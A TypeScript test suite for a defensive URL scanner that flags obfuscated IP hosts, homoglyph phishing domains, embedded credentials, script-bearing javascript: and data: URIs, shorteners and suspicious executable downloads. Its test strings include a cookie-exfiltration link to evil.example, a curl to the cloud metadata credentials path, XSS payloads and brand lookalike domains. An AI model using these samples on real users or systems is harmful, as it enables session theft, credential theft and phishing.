import { describe, expect, it } from 'vitest';
import { createUrlScanner, URL_RULES, type UrlScannerOptions } from '../../../../functions/audit/scanners/url';
import type { ScanHit } from '../../../../functions/audit/text-scanner';

function scan(text: string, options?: UrlScannerOptions): Array<{ rule: string; value: string }> {
  const out: ScanHit[] = [];
  createUrlScanner(options).scan(text, (h) => out.push(h));
  return out.map((h) => ({ rule: h.rule, value: text.slice(h.start, h.end) }));
}
const rules = (text: string, options?: UrlScannerOptions) => scan(text, options).map((h) => h.rule);

describe('url scanner: rule metadata', () => {
  it('has stable, unique url.* ids', () => {
    const ids = URL_RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const r of URL_RULES) {
      expect(r.id).toMatch(/^url\.[a-z0-9-]+$/);
      expect(r.check).toBe('url');
    }
  });
});

describe('url.ip-host and url.ip-host-obfuscated', () => {
  it('flags public IPv4 and IPv6 literal hosts with the whole URL as the span', () => {
    expect(scan('grab it from http://45.33.32.156/payload.txt now')).toEqual([
      { rule: 'url.ip-host', value: 'http://45.33.32.156/payload.txt' },
    ]);
    expect(rules('see https://[2606:4700:4700::1111]:443/dns-query')).toEqual(['url.ip-host']);
    expect(rules('curl http://169.254.169.254/latest/meta-data/iam/')).toEqual(['url.ip-host']);
  });

  it('flags decimal, hex, octal, shortened and IPv4-mapped forms', () => {
    expect(scan('open http://3232235777/ in the browser')).toEqual([
      { rule: 'url.ip-host-obfuscated', value: 'http://3232235777/' },
    ]);
    expect(rules('http://0xC0A80101/admin')).toEqual(['url.ip-host-obfuscated']);
    expect(rules('http://0300.0250.0.1/')).toEqual(['url.ip-host-obfuscated']);
    expect(rules('http://0x7f.1/')).toEqual(['url.ip-host-obfuscated']);
    expect(rules('http://127.1:8080/')).toEqual(['url.ip-host-obfuscated']);
    expect(rules('http://[::ffff:127.0.0.1]/')).toEqual(['url.ip-host-obfuscated']);
  });

  it('leaves private, loopback, documentation and localhost dev URLs alone', () => {
    for (const t of [
      'Start the server and visit http://localhost:3000/ or http://127.0.0.1:8000/docs.',
      'Your router admin page is at http://192.168.1.1 and the NAS at http://10.0.0.5:5000/.',
      'Examples use http://192.0.2.10/ and http://[2001:db8::1]/ and http://[::1]:8080/.',
      'ws://0.0.0.0:8765 is where the dev socket listens',
    ]) {
      expect(rules(t), t).toEqual([]);
    }
  });

  it('does not read version strings, bare IPs or numbers in paths as URL hosts', () => {
    for (const t of [
      'Upgrade to 1.2.3.4 before Friday; the server at 8.8.8.8 answers DNS.',
      'https://pypi.org/project/requests/2.31.0/ and https://example.com/v1.2.3.4/notes',
      'Order 3232235777 shipped on 2024-03-01 for $19.99.',
      'https://example.123/ is not a valid host',
    ]) {
      expect(rules(t), t).toEqual([]);
    }
  });
});

describe('url.punycode-host and url.homoglyph-host', () => {
  it('flags a Latin host with Cyrillic letters, in Unicode or punycode form', () => {
    expect(scan('Log in at https://раypal.com/signin to confirm.')).toEqual([
      { rule: 'url.homoglyph-host', value: 'https://раypal.com/signin' },
    ]);
    expect(rules('https://xn--pypal-4ve.com/')).toEqual(['url.homoglyph-host']);
  });

  it('flags a whole-script Cyrillic lookalike of an ASCII name', () => {
    expect(rules('https://xn--80ak6aa92e.com/')).toEqual(['url.homoglyph-host']); // аррӏе.com
  });

  it('flags IPA lookalike letters and Greek mixed into Latin', () => {
    expect(rules('http://ɡoogle.com/')).toEqual(['url.homoglyph-host']);
    expect(rules('https://micrοsoft.com/')).toEqual(['url.homoglyph-host']); // Greek omicron
  });

  it('flags a bare mixed-script domain in prose', () => {
    expect(scan('Подтвердите вход на раypal.com сегодня')).toEqual([
      { rule: 'url.homoglyph-host', value: 'раypal.com' },
    ]);
  });

  it('reports a plain punycode host as a warning only', () => {
    expect(rules('https://xn--mnchen-3ya.de/stadtplan')).toEqual(['url.punycode-host']);
  });

  it('does not flag native IDNs or ordinary Russian/Greek/Chinese prose', () => {
    for (const t of [
      'Сайт http://пример.рф работает, и https://münchen.de тоже.',
      'Смотрите файл отчёт.txt и документацию на сайте.',
      'Η Αθήνα είναι η πρωτεύουσα. Δείτε https://el.wikipedia.org/wiki/Αθήνα',
      '请访问 https://例子.测试/路径 获取更多信息。',
      'https://ru.wikipedia.org/wiki/Москва — статья о столице.',
    ]) {
      expect(rules(t), t).toEqual([]);
    }
  });
});

describe('url.credentials and url.userinfo-deception', () => {
  it('flags user:password with the user-info as the span', () => {
    expect(scan('clone https://user:pass@host/repo.git')).toEqual([{ rule: 'url.credentials', value: 'user:pass' }]);
    expect(rules('ftp://admin:S3cr3t!@files.internal.example.com/')).toEqual(['url.credentials']);
  });

  it('ignores user-only user-info and placeholder passwords', () => {
    for (const t of [
      'ssh://git@github.com/org/repo.git and https://token@github.com/org/repo',
      'ftp://john.doe@ftp.example.com/pub/ is an anonymous-style login',
      'https://user:${PASSWORD}@registry.example.com and https://me:****@host/ and https://u:<password>@h/',
    ]) {
      expect(rules(t), t).toEqual([]);
    }
  });

  it('flags a host-looking user-info and look-alike slashes', () => {
    expect(scan('Verify at https://www.paypal.com@evil.example/login')).toEqual([
      { rule: 'url.userinfo-deception', value: 'https://www.paypal.com@evil.example' },
    ]);
    expect(rules('https://github.com∕kubernetes∕kubernetes∕archive∕refs∕tags∕@v1271.zip')).toEqual([
      'url.userinfo-deception',
      'url.suspicious-tld',
    ]);
  });
});

describe('url.javascript-uri', () => {
  it('flags javascript: and vbscript: carrying code', () => {
    expect(scan('<a href="javascript:alert(document.cookie)">x</a>')).toEqual([
      { rule: 'url.javascript-uri', value: 'javascript:alert(document.cookie)' },
    ]);
    expect(rules("[click](JaVaScRiPt:fetch('//evil.example/'+document.cookie))")).toEqual(['url.javascript-uri']);
    expect(rules('<a href="vbscript:msgbox(1)">')).toEqual(['url.javascript-uri']);
  });

  it('ignores no-op hrefs and prose', () => {
    for (const t of [
      '<a href="javascript:void(0)" onclick="go()">Go</a> and <a href="javascript:;">x</a>',
      'JavaScript: The Good Parts is a classic book.',
      '[Open](javascript:void(0)) and [menu](javascript:;)',
      'Languages I know: Python, JavaScript:TypeScript too.',
    ]) {
      expect(rules(t), t).toEqual([]);
    }
  });
});

describe('url.data-uri and url.data-uri-script', () => {
  it('flags HTML, script and scripted SVG data URIs', () => {
    expect(rules('<iframe src="data:text/html,<script>alert(1)</script>">')).toEqual(['url.data-uri-script']);
    expect(rules('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==')).toEqual(['url.data-uri-script']);
    expect(rules('<script src="data:application/javascript,alert(1)"></script>')).toEqual(['url.data-uri-script']);
    const svg = btoa('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
    expect(rules(`<img src="data:image/svg+xml;base64,${svg}">`)).toEqual(['url.data-uri-script']);
  });

  it('keeps an inline PNG in markdown docs at a low warning', () => {
    const text = 'Embed it like this: ![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)';
    expect(scan(text)).toEqual([
      {
        rule: 'url.data-uri',
        value: 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
      },
    ]);
    const plainSvg = btoa('<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>');
    expect(rules(`background: url(data:image/svg+xml;base64,${plainSvg});`)).toEqual(['url.data-uri']);
  });

  it('ignores "data:" in prose and metadata keys', () => {
    expect(rules('Training data: 40k rows. metadata:{"a":1} Data: text/plain, see below.')).toEqual([]);
  });
});

describe('url.shortener', () => {
  it('flags short links with and without a scheme', () => {
    expect(scan('details at https://bit.ly/3xYzAbc.')).toEqual([{ rule: 'url.shortener', value: 'https://bit.ly/3xYzAbc' }]);
    expect(scan('see tinyurl.com/y6abcd2k for the form')).toEqual([{ rule: 'url.shortener', value: 'tinyurl.com/y6abcd2k' }]);
    expect(rules('RT @user: great thread https://t.co/AbC123xyz')).toEqual(['url.shortener']);
    expect(rules('cutt.ly/qwerty and rebrand.ly/promo')).toEqual(['url.shortener', 'url.shortener']);
  });

  it('extends the built-in list from options', () => {
    expect(rules('https://go.corp.example/x1', { shorteners: ['go.corp.example'] })).toEqual(['url.shortener']);
    expect(rules('https://go.corp.example/x1')).toEqual([]);
  });

  it('ignores shortener home pages, brand shorteners and look-alike paths', () => {
    for (const t of [
      'Bitly (https://bit.ly) is a link shortener; https://youtu.be/dQw4w9WgXcQ is a video.',
      'the file is in assets/bit.ly/readme and in docs/t.co/x',
    ]) {
      expect(rules(t), t).toEqual([]);
    }
  });
});

describe('url.deny-host, allowHosts and url.suspicious-tld', () => {
  it('flags a denied host and its subdomains, with or without a scheme', () => {
    const options = { denyHosts: ['evil.example'] };
    expect(rules('https://evil.example/a and https://cdn.evil.example/b', options)).toEqual(['url.deny-host', 'url.deny-host']);
    expect(rules('go to evil.example/login', options)).toEqual(['url.deny-host']);
    expect(rules('https://notevil.example/a', options)).toEqual([]);
  });

  it('silences every rule for an allowed host', () => {
    expect(rules('https://bit.ly/abc https://user:pw@bit.ly/x', { allowHosts: ['bit.ly'] })).toEqual([]);
    expect(rules('http://45.33.32.156/', { allowHosts: ['45.33.32.156'] })).toEqual([]);
  });

  it('never reports a suspicious TLD on its own', () => {
    for (const t of ['https://example.xyz/', 'https://my-project.top/docs', 'grab release.zip from https://github.com/o/r/releases']) {
      expect(rules(t), t).toEqual([]);
    }
  });

  it('raises another hit on the same URL', () => {
    expect(rules('https://xn--mnchen-3ya.top/login')).toEqual(['url.punycode-host', 'url.suspicious-tld']);
    expect(rules('https://s.example.tk/abc', { shorteners: ['s.example.tk'] })).toEqual(['url.shortener', 'url.suspicious-tld']);
  });
});

describe('url scanner: ordinary text', () => {
  it('finds nothing in ordinary URLs and prose', () => {
    for (const t of [
      'See https://docs.python.org/3/library/re.html and https://en.wikipedia.org/wiki/Regular_expression_(computing).',
      'Clone with git clone https://github.com/vitest-dev/vitest.git && cd vitest',
      'Visit www.example.com or WWW.GOV.UK for details; mail bob@example.com.',
      'Prices rose 3.5% to $1,299.00 on 2024-05-01; order #A-1029-7731 ships at 10:30.',
      'UUID 550e8400-e29b-41d4-a716-446655440000, sha 3f786850e387550fdab836ed7e6dc881de23001b.',
      'In Python, use urllib.parse.urlparse("http://localhost:8080/path?q=1") to split URLs.',
      '👨‍👩‍👧‍👦 家族 と https://www.example.co.jp/ja/ を参照してください。',
      'مرحبا بكم في https://ar.wikipedia.org/wiki/القاهرة',
      'यह https://hi.wikipedia.org/wiki/भारत पर है',
      's3://my-bucket/key and postgres://localhost/db and file:///etc/hosts are not web URLs',
      "{% for message in messages %}{{ '<|im_start|>' + message['role'] }}{% endfor %} — see https://huggingface.co/docs/transformers/chat_templating",
      'Commit 3f786850e387550fdab836ed7e6dc881de23001b fixed issue #42 (see https://github.com/o/r/pull/43#issuecomment-1).',
    ]) {
      expect(rules(t), t).toEqual([]);
    }
  });
});

describe('url.executable-download', () => {
  const rules = (text: string) => {
    const out: string[] = [];
    createUrlScanner().scan(text, (h) => out.push(h.rule));
    return out;
  };
  it('quarantines an executable from an address that already looks wrong', () => {
    expect(rules('Download the fix from http://185.23.44.9/update.exe now.')).toContain('url.executable-download');
    expect(rules('get it at https://bit.ly/3xYzAbC/setup.ps1')).toContain('url.executable-download');
  });
  it('leaves ordinary downloads from named hosts alone', () => {
    expect(rules('Install from https://www.python.org/ftp/python/3.12.0/python-3.12.0-amd64.exe')).toEqual([]);
    expect(rules('curl -O https://example.org/install.sh')).toEqual([]);
    expect(rules('See http://185.23.44.9/status for the dashboard')).not.toContain('url.executable-download');
  });
});
